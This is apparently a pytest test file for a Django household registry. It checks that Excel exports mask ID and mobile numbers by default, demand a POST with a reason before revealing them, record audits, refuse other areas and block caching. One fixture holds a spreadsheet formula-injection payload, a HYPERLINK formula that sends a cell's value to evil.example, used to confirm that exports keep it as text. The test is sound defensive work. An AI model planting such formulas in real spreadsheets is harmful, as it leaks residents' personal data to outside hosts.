"""The register's workbooks as an attacker and a careful office see them (issue 17): text stays
text (no formula reaches Excel), an export is masked unless someone who may reveal asks for the
full numbers with a reason — by POST, never by a link —, another area's export is refused and
recorded, and no file may be kept by a browser or proxy. Real .xlsx files read with openpyxl."""

from __future__ import annotations

import io
import re

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse

from linli.core.choices import AuditAction
from linli.core.masking import mask_id_number, mask_mobile
from linli.core.models import AuditRecord
from linli.registry.choices import ImportStatus
from linli.registry.models import Household

from .. import factories as f
from ..hall import app_helpers as h
from .import_helpers import (
    KEYS,
    family,
    place_fixture,  # noqa: F401 - the `place` fixture
    run_import,
    write_workbook,
)

# As a household address arrived through the API: a link that sends the row's cells away.
HYPERLINK = '=HYPERLINK("http://evil.example/?id="&E2,"点击查看")'
REASON = "核对低保名单"
COL = {key: index for index, key in enumerate(KEYS)}


@pytest.fixture
def home(world):
    """The grid worker's household, its address an Excel formula (stored as it was typed)."""
    household = world.households[0]
    Household.objects.filter(pk=household.pk).update(address=HYPERLINK)
    return Household.objects.select_related("head").get(pk=household.pk)


@pytest.fixture
def clients(world):
    return {role: h.client_for(user) for role, user in world.users.items()}


def _export_url(area) -> str:
    return f"{reverse('registry:export')}?area={area.pk}"


def _no_store(response) -> None:
    assert "no-store" in response["Cache-Control"], response.get("Cache-Control")


def _rows(response) -> list[list]:
    """The data rows of a downloaded workbook, as openpyxl cells."""
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"].startswith("attachment;")
    _no_store(response)
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = openpyxl.load_workbook(io.BytesIO(body)).worksheets[0]
    return [list(row) for row in sheet.iter_rows(min_row=2)]


def _texts(rows) -> set[str]:
    return {str(cell.value) for row in rows for cell in row if cell.value is not None}


def _exports() -> list[AuditRecord]:
    return list(AuditRecord.objects.filter(action__in=[AuditAction.EXPORT, AuditAction.REVEAL]))


# --- masked by default ------------------------------------------------------------------------


def test_a_grid_workers_export_by_link_has_only_masked_numbers(world, home, clients):
    worker = world.users["grid_worker"]
    head = home.head
    # Whatever the link carries (a reason too), a GET never gives the full numbers.
    for query in ("", "&reason=" + REASON):
        response = clients["grid_worker"].get(_export_url(world.grids[0]) + query)
        rows = _rows(response)
        assert [row[COL["number"]].value for row in rows] == [home.number]
        (row,) = rows
        assert row[COL["id_number"]].value == mask_id_number(head.id_number)
        assert row[COL["head_id_number"]].value == mask_id_number(head.id_number)
        assert row[COL["mobile"]].value == mask_mobile(head.mobile)
        assert head.id_number not in _texts(rows) and head.mobile not in _texts(rows)
    records = _exports()
    assert [r.action for r in records] == [AuditAction.EXPORT, AuditAction.EXPORT]
    assert all(r.actor == worker and r.changes["rows"] == 1 for r in records)
    assert all(r.changes["masked"] is True and r.reason == "" for r in records)


def test_a_formula_in_an_address_comes_out_as_text(world, home, clients):
    masked = _rows(clients["grid_worker"].get(_export_url(world.grids[0])))
    full = _rows(clients["grid_worker"].post(_export_url(world.grids[0]), {"reason": REASON}))
    for rows in (masked, full):
        address = rows[0][COL["address"]]
        assert address.value == HYPERLINK
        assert address.data_type == "s"  # a string cell, not a formula
        assert address.quotePrefix  # and it stays text when someone edits the cell


# --- the export with full numbers -------------------------------------------------------------


def test_the_export_with_full_numbers_is_a_post_with_a_reason_and_is_recorded(world, home, clients):
    response = clients["grid_worker"].post(_export_url(world.grids[0]), {"reason": REASON})
    (row,) = _rows(response)
    assert row[COL["id_number"]].value == home.head.id_number
    assert row[COL["mobile"]].value == home.head.mobile
    (record,) = _exports()
    assert record.action == AuditAction.REVEAL and record.actor == world.users["grid_worker"]
    assert record.reason == REASON
    assert record.changes["rows"] == 1 and record.changes["masked"] is False
    assert record.object_id == str(world.grids[0].pk)


@pytest.mark.parametrize("reason", [None, "", "   ", "核对"], ids=["none", "empty", "blank", "2"])
def test_no_file_without_a_stated_reason(world, home, clients, reason):
    body = {} if reason is None else {"reason": reason}
    response = clients["grid_worker"].post(_export_url(world.grids[0]), body)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "Content-Disposition" not in response
    _no_store(response)
    page = response.content.decode()
    assert "Please state why the export needs the full ID and mobile numbers" in page
    assert home.head.id_number not in page
    # The form comes back, posting to the same export (its filters in the address).
    assert 'data-testid="full-export"' in page
    assert f'action="{reverse("registry:export")}?area={world.grids[0].pk}' in page
    assert _exports() == []


def test_the_reason_is_asked_in_chinese(world, home):
    client = h.client_for(world.users["grid_worker"])
    response = client.post(
        _export_url(world.grids[0]), {"reason": ""}, HTTP_ACCEPT_LANGUAGE="zh-hans"
    )
    assert response.status_code == 400
    assert "请说明" in response.content.decode()


def test_who_may_not_reveal_gets_403_and_the_attempt_is_recorded(world, home, clients):
    leader = world.users["district_leader"]  # may export (masked), may not reveal
    masked = clients["district_leader"].get(_export_url(world.district))
    assert len(_rows(masked)) == len(world.households)
    response = clients["district_leader"].post(_export_url(world.district), {"reason": REASON})
    assert response.status_code == 403
    assert "Content-Disposition" not in response
    assert [r.action for r in _exports()] == [AuditAction.EXPORT]  # the masked one only
    denial = AuditRecord.objects.get(action=AuditAction.DENIED, actor=leader)
    assert denial.changes["method"] == "POST" and denial.changes["status"] == 403
    assert denial.changes["path"] == reverse("registry:export")


def test_the_list_offers_the_full_export_only_to_who_may_reveal(world, home, clients):
    url = f"{reverse('registry:household_list')}?area={world.grids[0].pk}"
    page = clients["grid_worker"].get(url).content.decode()
    assert 'data-testid="full-export"' in page and 'name="reason"' in page
    assert f'action="{reverse("registry:export")}?area={world.grids[0].pk}' in page
    leaders = clients["district_leader"].get(reverse("registry:household_list")).content.decode()
    assert reverse("registry:export") in leaders  # the masked export
    assert 'data-testid="full-export"' not in leaders


# --- another area -----------------------------------------------------------------------------


@pytest.mark.parametrize("method", ["get", "post"])
def test_another_areas_export_is_404_and_recorded_as_a_denial(world, home, clients, method):
    worker = world.users["grid_worker"]
    other = world.communities[2]  # another street's community
    send = getattr(clients["grid_worker"], method)
    response = send(_export_url(other), {"reason": REASON} if method == "post" else None)
    assert response.status_code == 404
    assert "Content-Disposition" not in response
    assert _exports() == []
    denial = AuditRecord.objects.get(action=AuditAction.DENIED, actor=worker)
    assert denial.object_type == "core.area" and denial.object_id == str(other.pk)
    assert denial.changes["status"] == 404 and denial.changes["method"] == method.upper()


def test_an_area_number_too_long_to_be_an_id_is_nobodys_area(world, clients):
    response = clients["grid_worker"].get(f"{reverse('registry:export')}?area={'9' * 30}")
    assert response.status_code == 404


# --- the command line -------------------------------------------------------------------------


def test_the_command_exports_masked_unless_told_why(place, tmp_path):
    people, ids = family("301001", size=1)
    assert run_import(write_workbook(tmp_path / "in.xlsx", people)).status == ImportStatus.DONE
    out = tmp_path / "out.xlsx"
    code = place.village.code
    call_command("export_registry", "--area", code, str(out))
    row = next(openpyxl.load_workbook(out).worksheets[0].iter_rows(min_row=2, values_only=True))
    assert row[COL["id_number"]] == mask_id_number(ids[0])
    assert AuditRecord.objects.filter(action=AuditAction.EXPORT).count() == 1
    out.unlink()
    for wrong in (["--reveal"], ["--reveal", "--reason", "查"], ["--reason", REASON]):
        with pytest.raises(CommandError):
            call_command("export_registry", "--area", code, str(out), *wrong)
        assert not out.exists()
    call_command("export_registry", "--area", code, str(out), "--reveal", "--reason", REASON)
    row = next(openpyxl.load_workbook(out).worksheets[0].iter_rows(min_row=2, values_only=True))
    assert row[COL["id_number"]] == ids[0]
    record = AuditRecord.objects.get(action=AuditAction.REVEAL)
    assert record.reason == REASON and record.changes["rows"] == 1


# --- the other files --------------------------------------------------------------------------


def _handed_in_with_a_formula(tmp_path):
    """A register whose address cell is text starting with "=" (typed with Excel's apostrophe)
    and whose mobile number is wrong, so the import is refused with an error report."""
    rows, _ids = family("301002", size=1)
    rows[0][COL["address"]] = HYPERLINK
    rows[0][COL["mobile"]] = "12345"
    path = write_workbook(tmp_path / "formula.xlsx", rows)
    book = openpyxl.load_workbook(path)
    cell = book.worksheets[0].cell(row=2, column=COL["address"] + 1)
    cell.value, cell.data_type, cell.quotePrefix = HYPERLINK, "s", True
    book.save(path)
    return path


def test_the_error_report_keeps_a_formula_as_text(world, place, tmp_path):
    worker = world.users["community_worker"]
    refused = run_import(_handed_in_with_a_formula(tmp_path), actor=worker)
    assert refused.status == ImportStatus.REJECTED
    response = h.client_for(worker).get(reverse("registry:import_errors", args=[refused.pk]))
    (row,) = _rows(response)
    address = row[COL["address"]]
    assert (address.value, address.data_type, address.quotePrefix) == (HYPERLINK, "s", True)


def test_the_template_is_not_kept_by_caches(world, clients):
    response = clients["community_worker"].get(reverse("registry:import_template"))
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    _no_store(response)


def test_a_sensitive_tag_in_the_filters_narrows_the_export_to_where_one_may_reveal(
    world, home, clients
):
    """A leader who may not reveal cannot learn who is 困难户 by exporting ?tag=<困难户>."""
    poor = f.tag("困难户", "household", sensitive=True)
    home.tag_links.create(tag=poor)
    url = f"{_export_url(world.district)}&tag={poor.pk}"
    assert _rows(clients["district_leader"].get(url)) == []
    worker = _rows(clients["grid_worker"].get(f"{_export_url(world.grids[0])}&tag={poor.pk}"))
    assert [row[COL["number"]].value for row in worker] == [home.number]


def test_the_export_follows_the_search_typed_on_the_list(world, home, clients):
    """Search as you type redraws the results only; the export button and form come along, so
    an export is always of the households shown."""
    url = f"{reverse('registry:household_list')}?area={world.grids[0].pk}&q=H99999"
    answer = clients["grid_worker"].get(url, headers={"HX-Request": "true"}).content.decode()
    actions = re.search(r'<div id="export-actions"[^>]*>(.*?)\n</div>', answer, re.S)
    assert actions and 'hx-swap-oob="true"' in actions.group(0)
    assert "q=H99999" in actions.group(1) and 'data-testid="full-export"' in actions.group(1)
    page = clients["grid_worker"].get(url).content.decode()
    assert page.count('id="export-actions"') == 1 and "hx-swap-oob" not in page
